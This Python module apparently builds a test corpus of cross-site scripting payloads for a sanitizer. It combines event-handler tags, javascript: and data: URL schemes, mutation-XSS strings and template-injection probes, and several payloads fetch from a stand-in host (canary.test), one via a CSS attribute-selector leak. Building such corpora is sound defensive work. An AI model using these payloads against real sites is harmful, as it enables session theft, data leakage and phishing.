"""Texts with which desks were broken: what acts, fetches, leaves its place or is taken for a command, in every dress
that we know. They are made here from their parts, so that each part meets each other.
"""

from collections.abc import Iterator
from itertools import product
from typing import Final

CANARY: Final = "canary.test"
"""A host that nothing may ever ask."""

HANDLERS: Final = (
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
)
TAGS: Final = (
    '<img src=x {}="{}">',
    '<svg {}="{}"></svg>',
    '<details open {}="{}">x</details>',
    '<input autofocus {}="{}">',
    '<video src=x {}="{}"></video>',
    '<body {}="{}">',
    '<marquee {}="{}">x</marquee>',
    '<a href="#" {}="{}">x</a>',
)
ACT: Final = "alert(1)"

SCHEMES: Final = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&colon;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:x",
)
PLACES: Final = (
    '<a href="{}">x</a>',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>x</button></form>',
    '<button form="f" formaction="{}">x</button>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<svg><a xlink:href="{}"><text y="9">x</text></a></svg>',
    '<math><mtext href="{}">x</mtext></math>',
    '<meta http-equiv="refresh" content="0;url={}">',
    '<base href="{}">',
    '<link rel="stylesheet" href="{}">',
)

ODD: Final = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//canary.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)",
    "`onmouseover=alert(1)`",
    "</script><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!--<img src=--><img src=x onerror=alert(1)//-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></use></svg>",
    "<math><mi><table><mglyph><style><img src=x onerror=alert(1)></style>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<table><td background='//canary.test/b.png'>x</td></table>",
    "<img srcset='//canary.test/s.png 1x' src=x>",
    "<picture><source srcset='//canary.test/p.png'><img></picture>",
    "<video poster='//canary.test/v.png'></video>",
    "<audio src='//canary.test/a.mp3' autoplay></audio>",
    "<link rel=prefetch href='//canary.test/f'>",
    "<link rel=dns-prefetch href='//canary.test'>",
    "<style>@import '//canary.test/i.css';</style>",
    "<style>body{background:url(//canary.test/u)}</style>",
    "<style>input[value^=a]{background:url(//canary.test/a)}</style>",
    "<p style='background:url(//canary.test/q)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9999;background:red'>Sign in again</p>",
    '<div style="width:expression(alert(1))">x</div>',
    "<p class='told' id='main'>x</p>",
    "<a id=defaultView name=defaultView><img name=getElementById>",
    "<form id=form><input name=attributes><input name=submit></form>",
    "<input type=image src='//canary.test/i.png'>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<keygen autofocus onfocus=alert(1)>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<portal src='//canary.test'></portal>",
    "<dialog open onclose=alert(1)><button>x</button></dialog>",
    "<custom-element onfocus=alert(1) tabindex=1 autofocus>x</custom-element>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u2028<script>alert(1)</script>\u2029",
    "\u202e<script>alert(1)</script>",
    "<img src=x onerror=\u200balert(1)>",
    "<\x00script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "[x](javascript:alert(1))",
    "![x](//canary.test/md.png)",
    "<javascript:alert(1)>",
    'http://x.test/"onmouseover="alert(1)',
    "http://x.test/'><script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "{% debug %}",
    "{{ settings.SECRET_KEY }}",
)


def scripts() -> Iterator[str]:
    """Everything that would act in a page, or fetch something."""
    yield from (tag.format(handler, ACT) for tag, handler in product(TAGS, HANDLERS))
    yield from (place.format(scheme) for place, scheme in product(PLACES, SCHEMES))
    yield from ODD


SCRIPTS: Final = tuple(dict.fromkeys(scripts()))
